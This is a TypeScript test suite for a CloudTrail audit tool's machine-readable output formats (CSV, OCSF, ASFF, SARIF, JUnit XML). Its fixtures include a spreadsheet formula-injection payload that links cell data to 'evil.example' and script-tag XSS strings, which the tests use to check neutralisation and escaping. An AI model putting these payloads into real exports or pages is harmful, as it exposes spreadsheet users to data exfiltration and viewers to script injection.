import Ajv, { type AnySchema } from 'ajv';
import addFormats from 'ajv-formats';
import {
  STATUSES,
  SEVERITIES,
  type Finding,
  type FrameworkMap,
  type Results,
  type Severity,
  type Status,
} from '../../../src/model/findings';
import { builtInChecks } from '../../../checks';
import { FRAMEWORK_FILES } from '../../../checks/frameworks';
import { MACHINE_FORMATS, toAsff, toCsv, toJunit, toOcsf, toSarif } from '../../../src/render/formats';
import { findingTypes, requirements as relatedRequirements } from '../../../src/render/formats/asff';
import asffSchema from './schemas/asff.schema.json';
import ocsfSchema from './schemas/ocsf.schema.json';
import sarifSchema from './schemas/sarif.schema.json';

// ---------------------------------------------------------------- fixture

const ACCOUNT_A = '111111111111';
const ACCOUNT_B = '222222222222';
const HOSTILE_NAME = `Prod <script>alert('x')</script> & "Co"`;
const HOSTILE_MESSAGE =
  'GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line\u0001\u0008\uD800 end';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click here")';
const CIS = { 'cis-3.0': ['3.1'], 'aws-securityhub': ['CloudTrail.1'] };

function finding(
  overrides: Partial<Finding> & Pick<Finding, 'id' | 'checkId' | 'status' | 'severity' | 'accountId'>,
): Finding {
  return {
    title: `Title of ${overrides.checkId}`,
    region: 'us-east-1',
    resourceType: 'AWS::CloudTrail::Trail',
    resourceArn: `arn:aws:cloudtrail:us-east-1:${overrides.accountId}:trail/main`,
    message: `message of ${overrides.id}`,
    evidence: { checked: true },
    remediation: { text: 'Fix it.', cli: 'aws cloudtrail update-trail --name <trail> --enable-log-file-validation' },
    frameworks: CIS,
    ...overrides,
  };
}

const manyFrameworks: FrameworkMap = { 'nist-800-53-r5': Array.from({ length: 40 }, (_, i) => `AU-${i + 1}`) };
const LONG_TITLE = `${'T'.repeat(300)}`;
const LONG_MESSAGE = `${'m'.repeat(1022)}😀😀 tail`;

const FINDINGS: Finding[] = [
  finding({
    id: 'f-pass',
    checkId: 'cloudtrail-bucket-not-public',
    status: 'PASS',
    severity: 'critical',
    accountId: ACCOUNT_A,
    resourceType: 'AWS::S3::Bucket',
    resourceArn: 'arn:aws:s3:::central-logs',
  }),
  finding({
    id: 'f-fail',
    checkId: 'cloudtrail-multi-region',
    status: 'FAIL',
    severity: 'high',
    accountId: ACCOUNT_A,
    resourceType: 'AWS::::Account',
    resourceArn: `arn:aws:::${ACCOUNT_A}`,
    message: FORMULA,
  }),
  finding({
    id: 'f-error',
    checkId: 'cloudtrail-bucket-restricted',
    status: 'ERROR',
    severity: 'medium',
    accountId: ACCOUNT_B,
    resourceType: 'AWS::S3::Bucket',
    resourceArn: 'arn:aws-us-gov:s3:::gov-logs',
    region: 'us-gov-west-1',
    message: HOSTILE_MESSAGE,
  }),
  finding({
    id: 'f-na',
    checkId: 'cloudtrail-log-file-validation',
    status: 'NOT_APPLICABLE',
    severity: 'low',
    accountId: ACCOUNT_B,
    resourceType: 'AWS::::Account',
    resourceArn: `arn:aws:::${ACCOUNT_B}`,
    message: 'account owns no trail',
  }),
  finding({
    id: 'f-waived',
    checkId: 'custom-log-group-retention',
    status: 'WAIVED',
    severity: 'informational',
    accountId: ACCOUNT_B,
    resourceType: 'AWS::Logs::LogGroup',
    resourceArn: `arn:aws:logs:eu-west-1:${ACCOUNT_B}:log-group:trail-logs`,
    region: 'eu-west-1',
    title: LONG_TITLE,
    message: LONG_MESSAGE,
    frameworks: manyFrameworks,
    remediation: {
      text: 'R'.repeat(600),
      cli: 'aws logs put-retention-policy --log-group-name trail-logs --retention-in-days 365',
    },
    waiver: {
      id: 'W-7',
      reason: 'archived elsewhere',
      approver: 'cso@example.com',
      expires: '2099-12-31',
      originalStatus: 'FAIL',
    },
  }),
  finding({
    id: 'f-fail-low',
    checkId: 'cloudtrail-log-file-validation',
    status: 'FAIL',
    severity: 'low',
    accountId: ACCOUNT_A,
    message: 'validation, disabled "really"',
  }),
];

function summaryOf(findings: Finding[]): Results['summary'] {
  const zero = <K extends string>(keys: readonly K[]) =>
    Object.fromEntries(keys.map((k) => [k, 0])) as Record<K, number>;
  const byStatus = zero(STATUSES);
  const failingBySeverity = zero(SEVERITIES);
  const byCheck: Record<string, Record<Status, number>> = {};
  for (const f of findings) {
    byStatus[f.status] += 1;
    (byCheck[f.checkId] ??= zero(STATUSES))[f.status] += 1;
    if (f.status === 'FAIL' || f.status === 'ERROR') failingBySeverity[f.severity] += 1;
  }
  const failingChecks = Object.keys(byCheck).filter((id) => (byCheck[id]?.FAIL ?? 0) + (byCheck[id]?.ERROR ?? 0) > 0);
  return { total: findings.length, byStatus, failingBySeverity, byCheck, failingChecks };
}

function resultsWith(findings: Finding[]): Results {
  const checks = new Map<string, { id: string; title: string; severity: Severity }>();
  for (const f of findings) checks.set(f.checkId, { id: f.checkId, title: f.title, severity: f.severity });
  return {
    schemaVersion: '1.0',
    tool: { name: 'trailaudit', version: '0.1.0' },
    run: {
      id: 'run-1',
      startedAt: '2026-01-02T03:04:05.000Z',
      finishedAt: '2026-01-02T03:04:07.250Z',
      caller: `arn:aws:sts::${ACCOUNT_A}:assumed-role/audit/me`,
      scope: { accounts: [ACCOUNT_A, ACCOUNT_B], regions: ['us-east-1', 'eu-west-1'] },
    },
    checks: [...checks.values()],
    accounts: [
      { id: ACCOUNT_A, name: HOSTILE_NAME, status: 'collected' },
      { id: ACCOUNT_B, name: 'Log Archive', ouPath: 'Root/Security', status: 'partial' },
      { id: '333333333333', status: 'skipped', reason: 'account is suspended' },
    ],
    findings,
    summary: summaryOf(findings),
  };
}

const RESULTS = resultsWith(FINDINGS);

const byId = (id: string): Finding => {
  const f = FINDINGS.find((x) => x.id === id);
  if (!f) throw new Error(`no fixture finding ${id}`);
  return f;
};

// ---------------------------------------------------------------- helpers

const ajv = new Ajv({ allErrors: true, strict: true });
addFormats(ajv);

function schemaErrors(schema: AnySchema, value: unknown): string[] {
  const validate = ajv.compile(schema);
  return validate(value) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath || '/'} ${e.message ?? ''}`);
}

type Json = Record<string, unknown>;
const asRecords = (value: unknown): Json[] => value as Json[];
const get = (value: unknown, ...keys: (string | number)[]): unknown =>
  keys.reduce<unknown>(
    (v, k) => (v !== null && typeof v === 'object' ? (v as Record<string | number, unknown>)[k] : undefined),
    value,
  );

/** A tiny RFC 4180 parser: CRLF record ends, quoted fields with "" for a quote. Throws on anything else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        value += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        value += text[i];
        i += 1;
      }
    }
    record.push(value);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i} (line ends must be CRLF)`);
    }
  }
  if (record.length > 0) records.push(record);
  return records;
}

interface XmlNode {
  name: string;
  attrs: Record<string, string>;
  children: XmlNode[];
  text: string;
}

const ENTITY = /&(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);/g;
const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
const decode = (s: string): string =>
  s.replace(
    ENTITY,
    (_m, e: string) =>
      NAMED[e] ?? String.fromCodePoint(e.startsWith('#x') ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10)),
  );

/** A strict, minimal XML reader: one root, balanced tags, quoted attributes, only known entities. */
function parseXml(xml: string): XmlNode {
  if (/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.test(xml))
    throw new Error('character not allowed in XML 1.0');
  const body = xml.replace(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n/, '');
  const checkText = (t: string): void => {
    if (t.replace(ENTITY, '').includes('&')) throw new Error(`bare & in ${JSON.stringify(t.slice(0, 60))}`);
    if (t.includes('>')) throw new Error('unescaped > in text');
  };
  const root: XmlNode = { name: '#document', attrs: {}, children: [], text: '' };
  const stack: XmlNode[] = [root];
  const tokens = body.split(/(<[^<>]*>)/);
  for (const token of tokens) {
    const top = stack[stack.length - 1];
    if (!top) {
      if (token.trim() !== '') throw new Error('content after the root element');
      continue;
    }
    if (!token.startsWith('<')) {
      checkText(token);
      if (top === root && token.trim() !== '') throw new Error('text outside the root element');
      top.text += decode(token);
      continue;
    }
    const close = /^<\/([A-Za-z_][\w.-]*)>$/.exec(token);
    if (close) {
      if (top.name !== close[1]) throw new Error(`</${close[1]}> closes <${top.name}>`);
      stack.pop();
      if (stack.length === 1) stack.pop();
      continue;
    }
    const open = /^<([A-Za-z_][\w.-]*)((?:\s+[A-Za-z_][\w.-]*="[^"<]*")*)\s*(\/?)>$/.exec(token);
    if (!open?.[1]) throw new Error(`malformed tag ${token.slice(0, 80)}`);
    if (top === root && root.children.length > 0) throw new Error('more than one root element');
    const node: XmlNode = { name: open[1], attrs: {}, children: [], text: '' };
    for (const [, name, raw] of (open[2] ?? '').matchAll(/([A-Za-z_][\w.-]*)="([^"]*)"/g)) {
      if (name === undefined || raw === undefined) continue;
      if (name in node.attrs) throw new Error(`duplicate attribute ${name}`);
      checkText(raw);
      node.attrs[name] = decode(raw);
    }
    top.children.push(node);
    if (open[3] !== '/') stack.push(node);
    else if (top === root) stack.pop();
  }
  if (stack.length !== 0) throw new Error('unclosed elements');
  const [element] = root.children;
  if (!element) throw new Error('no root element');
  return element;
}

const all = (node: XmlNode, name: string): XmlNode[] => [
  ...(node.name === name ? [node] : []),
  ...node.children.flatMap((c) => all(c, name)),
];

// ---------------------------------------------------------------- tests

describe('the fixture', () => {
  it('covers every status, every severity and two scanned accounts', () => {
    expect(new Set(FINDINGS.map((f) => f.status))).toEqual(new Set(STATUSES));
    expect(new Set(FINDINGS.map((f) => f.severity))).toEqual(new Set(SEVERITIES));
    expect(new Set(FINDINGS.map((f) => f.accountId)).size).toBe(2);
  });
});

describe('CSV', () => {
  const csv = toCsv(RESULTS);
  const records = parseCsv(csv);

  it('is RFC 4180: CRLF line ends, a header, one record per finding, equal field counts', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').replace(/"[^"]*"/g, '')).not.toMatch(/[\r\n]/);
    expect(records[0]).toEqual([
      'id',
      'status',
      'severity',
      'checkId',
      'title',
      'accountId',
      'region',
      'resourceType',
      'resourceArn',
      'message',
      'remediation',
      'frameworks',
    ]);
    expect(records).toHaveLength(FINDINGS.length + 1);
    for (const r of records) expect(r).toHaveLength(12);
  });

  it('round-trips every field (commas, quotes, line breaks included)', () => {
    const rows = records.slice(1);
    FINDINGS.forEach((f, i) => {
      const row = rows[i] ?? [];
      const unguard = (s: string | undefined) => (s && /^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);
      expect(row.slice(0, 9)).toEqual([
        f.id,
        f.status,
        f.severity,
        f.checkId,
        f.title,
        f.accountId,
        f.region,
        f.resourceType,
        f.resourceArn,
      ]);
      expect(unguard(row[9])).toBe(f.message);
      expect(row[10]).toBe(f.remediation.cli);
    });
    expect(rows[0]?.[11]).toBe('cis-3.0 3.1; aws-securityhub CloudTrail.1');
    expect(csv).toContain('"validation, disabled ""really"""');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a field starting with %j', (start) => {
    const payload = `${start}HYPERLINK("https://evil.example","x")`;
    const [, row] = parseCsv(
      toCsv(
        resultsWith([
          finding({
            id: 'x',
            checkId: 'c',
            status: 'FAIL',
            severity: 'low',
            accountId: ACCOUNT_A,
            message: payload,
            title: `${start}SUM(1)`,
          }),
        ]),
      ),
    );
    expect(row?.[9]).toBe(`'${payload}`);
    expect(row?.[4]).toBe(`'${start}SUM(1)`);
  });

  it('neutralises the =HYPERLINK message of the fixture', () => {
    expect(records[2]?.[9]).toBe(`'${FORMULA}`);
    for (const r of records) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('OCSF', () => {
  const events = asRecords(toOcsf(RESULTS));

  it('matches the OCSF 1.1 Detection Finding requirements', () => {
    expect(schemaErrors(ocsfSchema, events)).toEqual([]);
    expect(events).toHaveLength(FINDINGS.length);
    for (const e of events) expect(e.type_uid).toBe(Number(e.class_uid) * 100 + Number(e.activity_id));
  });

  it('has a schema that rejects what OCSF forbids (time in seconds, a missing finding_info.uid)', () => {
    const [first] = events;
    expect(
      schemaErrors(ocsfSchema, [{ ...first, time: Math.floor(Date.parse(RESULTS.run.finishedAt) / 1000) }]),
    ).not.toEqual([]);
    expect(schemaErrors(ocsfSchema, [{ ...first, finding_info: { title: 't' } }])).not.toEqual([]);
  });

  it('keeps the outcome in status_code and the workflow state in status_id', () => {
    expect(events.map((e) => e.status_code)).toEqual(FINDINGS.map((f) => f.status));
    expect(events.map((e) => e.status_id)).toEqual(FINDINGS.map((f) => (f.status === 'WAIVED' ? 3 : 1)));
    expect(events.map((e) => e.severity_id)).toEqual(
      FINDINGS.map((f) => ({ informational: 1, low: 2, medium: 3, high: 4, critical: 5 })[f.severity]),
    );
  });

  it('carries time in epoch milliseconds, the cloud account, the resource and the evidence', () => {
    const e = events[2];
    expect(e?.time).toBe(Date.parse(RESULTS.run.finishedAt));
    expect(e?.time_dt).toBe(RESULTS.run.finishedAt);
    expect(get(e, 'finding_info', 'uid')).toBe('f-error');
    expect(get(e, 'metadata', 'event_code')).toBe('cloudtrail-bucket-restricted');
    expect(get(e, 'cloud', 'account')).toEqual({
      uid: ACCOUNT_B,
      type: 'AWS Account',
      type_id: 10,
      name: 'Log Archive',
    });
    expect(get(e, 'resources', 0)).toEqual({
      uid: 'arn:aws-us-gov:s3:::gov-logs',
      type: 'AWS::S3::Bucket',
      region: 'us-gov-west-1',
      cloud_partition: 'aws-us-gov',
      data: { checked: true },
    });
    expect(get(e, 'unmapped', 'compliance')).toEqual(CIS);
    expect(get(events[4], 'unmapped', 'waiver', 'id')).toBe('W-7');
  });
});

describe('ASFF', () => {
  const findings = asRecords(toAsff(RESULTS));

  it('matches the Security Hub required attributes, enums and limits', () => {
    expect(schemaErrors(asffSchema, findings)).toEqual([]);
  });

  it('has a schema that rejects what Security Hub would (a 257-character title, no Resources)', () => {
    const [first] = findings;
    expect(schemaErrors(asffSchema, [{ ...first, Title: 'x'.repeat(257) }])).not.toEqual([]);
    expect(schemaErrors(asffSchema, [{ ...first, Resources: [] }])).not.toEqual([]);
  });

  it('maps statuses to compliance and workflow', () => {
    expect(findings.map((f) => get(f, 'Compliance', 'Status'))).toEqual([
      'PASSED',
      'FAILED',
      'WARNING',
      'NOT_AVAILABLE',
      'FAILED',
      'FAILED',
    ]);
    expect(findings.map((f) => get(f, 'Workflow', 'Status'))).toEqual([
      'NEW',
      'NEW',
      'NEW',
      'NEW',
      'SUPPRESSED',
      'NEW',
    ]);
    const unknownWaiver = resultsWith([
      finding({ id: 'w', checkId: 'c', status: 'WAIVED', severity: 'low', accountId: ACCOUNT_A }),
    ]);
    expect(get(toAsff(unknownWaiver)[0], 'Compliance', 'Status')).toBe('NOT_AVAILABLE');
  });

  it('names resources, partitions and the product the way Security Hub does', () => {
    expect(get(findings[1], 'Resources', 0)).toEqual({
      Type: 'AwsAccount',
      Id: `AWS::::Account:${ACCOUNT_A}`,
      Partition: 'aws',
      Region: 'us-east-1',
    });
    expect(get(findings[2], 'Resources', 0, 'Partition')).toBe('aws-us-gov');
    expect(get(findings[2], 'ProductArn')).toBe(
      `arn:aws-us-gov:securityhub:us-gov-west-1:${ACCOUNT_B}:product/${ACCOUNT_B}/default`,
    );
    expect(get(findings[4], 'Resources', 0, 'Type')).toBe('Other');
    expect(get(findings[0], 'Severity')).toEqual({ Label: 'CRITICAL', Original: 'critical' });
    expect(get(findings[0], 'GeneratorId')).toBe('cloudtrail-bucket-not-public');
    const custom = asRecords(toAsff(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/acme/trailaudit' }));
    expect(new Set(custom.map((f) => f.ProductArn))).toEqual(
      new Set(['arn:aws:securityhub:us-east-1::product/acme/trailaudit']),
    );
  });

  it('truncates long text with an ellipsis and caps the requirement list at 32', () => {
    const waived = findings[4];
    const title = String(waived?.Title);
    const description = String(waived?.Description);
    expect(title).toHaveLength(256);
    expect(title.endsWith('…')).toBe(true);
    expect(description.length).toBeLessThanOrEqual(1024);
    expect(description.endsWith('…')).toBe(true);
    expect(description).not.toMatch(/[\uD800-\uDBFF]…$/); // no half of an emoji left behind
    expect(String(get(waived, 'Remediation', 'Recommendation', 'Text'))).toHaveLength(512);
    expect(get(waived, 'Compliance', 'RelatedRequirements')).toHaveLength(32);
    expect(get(findings[1], 'Remediation', 'Recommendation', 'Text')).toBe(
      `Fix it. Run: ${byId('f-fail').remediation.cli}`,
    );
  });

  describe('finding types and related requirements come from the framework files (checks/frameworks/*.json)', () => {
    const STANDARDS = 'Software and Configuration Checks/Industry and Regulatory Standards';

    it('types a finding by the asffClassifier of each framework file it maps to', () => {
      expect(get(findings[0], 'Types')).toEqual([
        `${STANDARDS}/CIS AWS Foundations Benchmark`,
        `${STANDARDS}/AWS Foundational Security Best Practices`,
      ]);
      expect(get(findings[0], 'FindingProviderFields', 'Types')).toEqual(get(findings[0], 'Types'));
      expect(get(findings[4], 'Types')).toEqual([`${STANDARDS}/NIST 800-53 Controls (USA)`]);
      for (const framework of FRAMEWORK_FILES) {
        const expected = framework.asffClassifier ? [`${STANDARDS}/${framework.asffClassifier}`] : [STANDARDS];
        expect([framework.id, findingTypes({ [framework.id]: ['x'] })]).toEqual([framework.id, expected]);
      }
    });

    it('names each classifier once, and falls back to the bare category for frameworks no file names', () => {
      expect(
        findingTypes({ 'cis-1.2': ['2.1'], 'cis-3.0': ['3.1'], 'aws-config': ['multi-region-cloudtrail-enabled'] }),
      ).toEqual([`${STANDARDS}/CIS AWS Foundations Benchmark`]);
      expect(findingTypes({ internal: ['LOG-7'], 'aws-best-practice': ['centralized-logging'] })).toEqual([STANDARDS]);
      expect(findingTypes({})).toEqual([STANDARDS]);
    });

    it("lists a built-in check's requirements in the framework files' order", () => {
      const multiRegion = builtInChecks.find((c) => c.meta.id === 'cloudtrail-multi-region');
      if (!multiRegion) throw new Error('cloudtrail-multi-region is not built in');
      const expected = FRAMEWORK_FILES.flatMap((f) =>
        f.requirements.filter((r) => r.checks.includes('cloudtrail-multi-region')).map((r) => `${f.id} ${r.id}`),
      );
      expect(expected).toHaveLength(21);
      expect(relatedRequirements(multiRegion.meta.frameworks)).toEqual(expected);
      const [asff] = toAsff(
        resultsWith([
          finding({
            id: 'm',
            checkId: multiRegion.meta.id,
            status: 'FAIL',
            severity: 'high',
            accountId: ACCOUNT_A,
            frameworks: multiRegion.meta.frameworks,
          }),
        ]),
      );
      expect(get(asff, 'Compliance', 'RelatedRequirements')).toEqual(expected);
      expect(get(asff, 'Types')).toEqual(
        [
          'CIS AWS Foundations Benchmark',
          'AWS Foundational Security Best Practices',
          'PCI-DSS',
          'SOC 2',
          'ISO 27001 Controls',
          'NIST 800-53 Controls (USA)',
          'HIPAA Controls (USA)',
        ].map((c) => `${STANDARDS}/${c}`),
      );
    });
  });
});

describe('SARIF', () => {
  const log = toSarif(RESULTS);
  const run = get(log, 'runs', 0);
  const results = asRecords(get(run, 'results'));
  const rules = asRecords(get(run, 'tool', 'driver', 'rules'));

  it('matches SARIF 2.1.0 (and the properties GitHub code scanning needs)', () => {
    expect(schemaErrors(sarifSchema, log)).toEqual([]);
    expect(get(log, '$schema')).toBe('https://json.schemastore.org/sarif-2.1.0.json');
  });

  it('has a schema that enforces §3.27.10 (a kind other than "fail" takes level "none")', () => {
    const broken = {
      version: '2.1.0',
      runs: [
        { tool: { driver: { name: 't' } }, results: [{ kind: 'review', level: 'warning', message: { text: 'm' } }] },
      ],
    };
    expect(schemaErrors(sarifSchema, broken)).not.toEqual([]);
  });

  it('reports FAIL, ERROR and (suppressed) WAIVED findings only, each pointing at its rule', () => {
    expect(results.map((r) => get(r, 'partialFingerprints', 'findingId'))).toEqual([
      'f-fail',
      'f-error',
      'f-waived',
      'f-fail-low',
    ]);
    for (const r of results) expect(rules[Number(r.ruleIndex)]?.id).toBe(r.ruleId);
    expect(results.map((r) => r.level)).toEqual(['error', 'warning', 'note', 'note']);
    expect(results.every((r) => r.kind === 'fail')).toBe(true);
    expect(get(results[2], 'suppressions', 0)).toMatchObject({ kind: 'external', status: 'accepted' });
    expect(get(results[0], 'suppressions')).toBeUndefined();
    expect(get(results[1], 'locations', 0, 'logicalLocations', 0)).toEqual({
      fullyQualifiedName: 'arn:aws-us-gov:s3:::gov-logs',
      kind: 'resource',
    });
    expect(get(run, 'properties', 'byStatus')).toEqual(RESULTS.summary.byStatus);
  });

  it('describes every check as a rule with a GitHub security-severity', () => {
    expect(rules.map((r) => r.id)).toEqual(RESULTS.checks.map((c) => c.id));
    const severity = (id: string) =>
      get(
        rules.find((r) => r.id === id),
        'properties',
        'security-severity',
      );
    expect(severity('cloudtrail-bucket-not-public')).toBe('9.5');
    expect(severity('cloudtrail-multi-region')).toBe('8.0');
    expect(severity('custom-log-group-retention')).toBeUndefined();
  });
});

describe('JUnit XML', () => {
  const xml = toJunit(RESULTS);
  const root = parseXml(xml);
  const suites = all(root, 'testsuite');
  const cases = all(root, 'testcase');

  it('is well-formed, with totals that match its elements', () => {
    expect(root.name).toBe('testsuites');
    expect(root.attrs).toEqual({
      name: 'trailaudit',
      tests: '6',
      failures: '2',
      errors: '1',
      skipped: '2',
      time: '2.250',
    });
    expect(cases).toHaveLength(Number(root.attrs.tests));
    expect(all(root, 'failure')).toHaveLength(Number(root.attrs.failures));
    expect(all(root, 'error')).toHaveLength(Number(root.attrs.errors));
    expect(all(root, 'skipped')).toHaveLength(Number(root.attrs.skipped));
    for (const suite of suites) {
      const own = suite.children.filter((c) => c.name === 'testcase');
      expect(Number(suite.attrs.tests)).toBe(own.length);
      expect(Number(suite.attrs.failures)).toBe(own.filter((c) => c.children.some((x) => x.name === 'failure')).length);
    }
  });

  it('has one suite per account, one case per finding named by check and resource', () => {
    expect(suites.map((s) => s.attrs.name)).toEqual([
      `account ${ACCOUNT_A}`,
      `account ${ACCOUNT_B}`,
      'account 333333333333',
    ]);
    expect(cases.map((c) => `${c.attrs.classname} ${c.attrs.name}`)).toContain(
      `cloudtrail-multi-region arn:aws:::${ACCOUNT_A}`,
    );
    const skippedAccount = suites[2];
    expect(skippedAccount?.attrs.tests).toBe('0');
    expect(all(skippedAccount ?? root, 'property').map((p) => p.attrs.value)).toEqual([
      'skipped',
      'account is suspended',
    ]);
  });

  it('escapes a hostile account name and message, and drops characters XML cannot carry', () => {
    expect(xml).not.toContain('<script>');
    expect(xml).toContain('&lt;script&gt;');
    const nameProperty = all(root, 'property').find((p) => p.attrs.name === 'accountName');
    expect(nameProperty?.attrs.value).toBe(HOSTILE_NAME);
    const error = all(root, 'error')[0];
    expect(error?.attrs.message).toBe(
      'GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line end',
    );
    expect(error?.text.startsWith('GetBucketPolicy failed: <script>')).toBe(true);
    expect(all(root, 'skipped').map((s) => s.attrs.message)).toContain('not applicable: account owns no trail');
  });
});

describe('the machine format registry', () => {
  it('renders every format to a string under its file name', () => {
    expect(Object.fromEntries(Object.entries(MACHINE_FORMATS).map(([k, f]) => [k, f.file]))).toEqual({
      csv: 'results.csv',
      ocsf: 'results.ocsf.json',
      asff: 'results.asff.json',
      sarif: 'results.sarif',
      junit: 'results.junit.xml',
    });
    for (const format of [MACHINE_FORMATS.ocsf, MACHINE_FORMATS.asff, MACHINE_FORMATS.sarif]) {
      const text = format.render(RESULTS);
      expect(text.endsWith('}\n') || text.endsWith(']\n')).toBe(true);
      expect(() => JSON.parse(text) as unknown).not.toThrow();
      expect(text).toContain('\n  ');
    }
    expect(MACHINE_FORMATS.csv.render(RESULTS)).toBe(toCsv(RESULTS));
    expect(MACHINE_FORMATS.junit.render(RESULTS)).toBe(toJunit(RESULTS));
    expect(
      JSON.parse(MACHINE_FORMATS.asff.render(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' })),
    ).toEqual(toAsff(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' }));
  });

  it('renders an empty run', () => {
    const empty = resultsWith([]);
    expect(toCsv(empty).split('\r\n')).toHaveLength(2);
    expect(parseXml(toJunit(empty)).attrs.tests).toBe('0');
    expect(schemaErrors(sarifSchema, toSarif(empty))).toEqual([]);
    expect(toOcsf(empty)).toEqual([]);
    expect(toAsff(empty)).toEqual([]);
  });
});
